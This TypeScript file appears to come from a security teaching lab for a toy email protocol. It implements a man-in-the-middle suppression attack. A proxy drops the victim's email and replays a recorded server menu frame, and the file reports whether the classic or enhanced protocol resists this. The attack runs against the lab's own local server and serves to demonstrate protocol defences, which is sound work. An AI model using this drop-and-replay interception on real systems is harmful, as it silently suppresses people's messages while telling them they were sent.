/**
 * Attack 6, suppression: the attacker in the middle drops the victim's email and answers in
 * the server's place with a frame it recorded earlier in the session, so that the victim
 * believes the email was sent. Classic frames carry no sequence number and the classic
 * protocol acknowledges nothing, so a replayed menu is all the answer it takes. Enhanced
 * records are numbered and authenticated, and from session version 2 the server answers an
 * email with a delivery report that no one else can forge.
 */
import type { Lab } from './lab.js';
import { startProxy, type Relay } from './proxy.js';
import { attempt, quote, type AttackReport } from './report.js';

/**
 * Client frames by position: login (2 frames), "1", then the email; on the enhanced protocol
 * (session version 5 and later) a send id comes before the email (docs/PROTOCOL.md, section 14).
 */
const emailFrame = (protocol: Lab['protocol']): number => (protocol === 'enhanced' ? 4 : 3);
export const SENDER = 'client1';
export const RECIPIENT = 'client2';
export const SUPPRESSED_EMAIL = {
  to: [RECIPIENT],
  title: 'Resignation',
  content: 'I resign, effective today.',
};

export interface SuppressionResult extends AttackReport {
  /** Whether the victim's client reported the email as sent. */
  victimBelievesSent: boolean;
  /** Copies of the email in the recipient's inbox. */
  storedCopies: number;
  victimError: string | undefined;
}

/** The first frame the server sent after the login: the menu, as the client will expect it again. */
function recordedMenu(relay: Relay, protocol: Lab['protocol']): Buffer | undefined {
  const fromServer = relay.seen.filter((frame) => frame.direction === 'server->client');
  // Classic: the session key, then the menu. Enhanced: the ServerHello, "OK", then the menu.
  return fromServer[protocol === 'classic' ? 1 : 2]?.bytes;
}

export async function suppressEmail(lab: Lab): Promise<SuppressionResult> {
  const attacker = { dropped: false };
  const proxy = await startProxy(lab.port, async (frame, index, relay) => {
    if (index !== emailFrame(lab.protocol)) return frame;
    const menu = recordedMenu(relay, lab.protocol);
    if (!menu) return frame;
    // The email never reaches the server; the client gets an old frame in the server's name.
    attacker.dropped = true;
    await relay.client.write(menu);
    return undefined;
  });
  const sent = await attempt(async () => {
    const client = await lab.signIn(SENDER, proxy.port);
    try {
      const result = await client.send(SUPPRESSED_EMAIL);
      await client.terminate();
      return result;
    } finally {
      client.destroy();
    }
  });
  await proxy.close();
  const storedCopies = lab
    .inbox(RECIPIENT)
    .filter((file) => file.text.includes(SUPPRESSED_EMAIL.content)).length;
  const victimBelievesSent = sent.error === undefined;
  const succeeded = attacker.dropped && victimBelievesSent && storedCopies === 0;
  const lines = [
    `The victim ${SENDER} sends ${quote(SUPPRESSED_EMAIL.title)} to ${RECIPIENT} through the attacker's proxy (${lab.protocol} protocol).`,
    `The attacker drops the email and answers with the menu frame it recorded after the login.`,
    victimBelievesSent
      ? `The victim's client reports the email as sent${sent.value?.report ? ', with a delivery report' : ' (the protocol acknowledges nothing)'}.`
      : `The victim's client saw: ${sent.error ?? ''}`,
    `${RECIPIENT}'s inbox holds ${storedCopies} cop${storedCopies === 1 ? 'y' : 'ies'} of it.`,
    succeeded
      ? 'RESULT: attack succeeded: the victim believes the email was sent; it never arrived.'
      : 'RESULT: attack failed: the replayed frame was refused, and the victim was told the email did not go.',
  ];
  return {
    attack: 'suppression',
    protocol: lab.protocol,
    succeeded,
    lines,
    victimBelievesSent,
    storedCopies,
    victimError: sent.error,
  };
}
